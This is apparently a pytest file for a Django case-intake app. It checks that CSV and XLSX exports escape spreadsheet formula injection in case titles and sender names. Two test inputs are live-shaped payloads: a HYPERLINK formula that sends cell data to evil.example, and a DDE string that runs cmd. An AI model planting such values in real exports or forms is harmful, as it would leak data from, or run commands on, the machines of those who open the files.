"""A matter's title or a sender's details that a spreadsheet would run as a formula come out
of the inbox export as text, escaped, in CSV and XLSX, with the senders' details too."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from danvan.cases.exports import COLUMNS, PERSONAL_COLUMNS
from danvan.cases.services.intake import PersonData, submit
from tests.cases.conftest import submission
from tests.factories import Role, Scope, user_with

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
PHONE = "+84 912 345 678"
TITLE_COL = dict(COLUMNS)["title"]
NAME_COL, PHONE_COL = PERSONAL_COLUMNS[0][1], PERSONAL_COLUMNS[1][1]


@pytest.fixture
def case(network):
    person = PersonData(full_name=NAME, phone=PHONE, consent=True)
    return submit(
        submission=submission(network, title=TITLE, person=person),
        client="test",
        idempotency_key=None,
    ).case


@pytest.fixture
def leader(network, client):
    user = user_with(network.province_a, Role.LEADER, Scope.SUBTREE)
    client.force_login(user)
    return user


def _export(client, fmt):
    response = client.get(reverse("cases:export", args=[fmt]), {"with_personal": "1"})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_csv_export_with_personal_data_escapes_formulas(client, case, leader):
    text = _export(client, "csv").decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text))
    (row,) = [dict(zip(header, r, strict=True)) for r in rows]
    assert row[TITLE_COL] == "'" + TITLE
    assert row[NAME_COL] == "'" + NAME
    assert row[PHONE_COL] == "'" + PHONE


def test_the_xlsx_export_with_personal_data_holds_no_formula(client, case, leader):
    content = _export(client, "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    header, row = sheet.iter_rows()
    cells = {h.value: c for h, c in zip(header, row, strict=True)}
    for column, value in ((TITLE_COL, TITLE), (NAME_COL, NAME), (PHONE_COL, PHONE)):
        assert cells[column].data_type == "s"
        assert cells[column].value == "'" + value
    assert all(c.data_type != "f" for c in row)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
